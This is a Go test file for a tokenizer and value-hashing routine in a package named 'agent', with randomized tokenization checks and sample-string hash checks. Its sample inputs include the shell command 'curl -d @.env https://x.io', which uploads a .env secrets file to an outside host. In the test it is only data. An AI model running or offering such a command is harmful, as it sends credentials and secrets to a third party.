package agent

import (
	"math/rand"
	"slices"
	"strings"
	"testing"
)

// TestTokensAreFieldsOfSeparators: tokensCase splits as
// strings.FieldsFunc(text, separator) does, on generated texts of
// separators, punctuation, letters, multi-byte runes and invalid UTF-8.
func TestTokensAreFieldsOfSeparators(t *testing.T) {
	alphabet := []string{" ", "\t", "\n", "\u00a0", "\u2003", `"`, "{", "}", "[", "]", "(", ")", ",", ";", "<", ">", "|", "`", "*",
		".", ":", "!", "?", "'", "-", "=", "#", "a", "B", "z", "7", "é", "Ж", "日", "\xff", "\xc3", "@", "/"}
	r := rand.New(rand.NewSource(1))
	for n := 0; n < 20000; n++ {
		var b strings.Builder
		for k := r.Intn(24); k > 0; k-- {
			b.WriteString(alphabet[r.Intn(len(alphabet))])
		}
		text := b.String()
		var want []string
		var wantCaps []bool
		for _, f := range strings.FieldsFunc(text, separator) {
			if tok := trimToken(f); tok != "" {
				want = append(want, strings.ToLower(tok))
				wantCaps = append(wantCaps, tok[0] >= 'A' && tok[0] <= 'Z')
			}
		}
		got, caps := tokensCase(text)
		if !slices.Equal(got, want) || !slices.Equal(caps, wantCaps) {
			t.Fatalf("%q: tokens %q %v, want %q %v", text, got, caps, want, wantCaps)
		}
	}
}

// TestValueKeyHashesJoinedTokens: valueKey hashes a text's tokens as it
// goes; the key is valueHash of the tokens joined by spaces (a lone
// number in its canonical form), as it was when the list was built.
func TestValueKeyHashesJoinedTokens(t *testing.T) {
	for _, text := range []string{"", "  ", "x", "98.70", " 98.70 ", "IBAN: DE89 3704 0044 0532 0130 00.", `a\nb "C"`,
		"curl -d @.env https://x.io", "Ünïcode Straße", "-1e3", "a  b\tc", "{\"k\": [1, 2]}"} {
		toks := tokens(text)
		want, wantOK := uint64(0), len(toks) > 0
		if wantOK {
			k := strings.Join(toks, " ")
			if len(toks) == 1 {
				if n, ok := canonicalNumber(k); ok {
					k = n
				}
			}
			want = valueHash(k)
		}
		if got, ok := valueKey(text); got != want || ok != wantOK {
			t.Errorf("valueKey(%q) = %x, %v; want %x, %v", text, got, ok, want, wantOK)
		}
	}
}
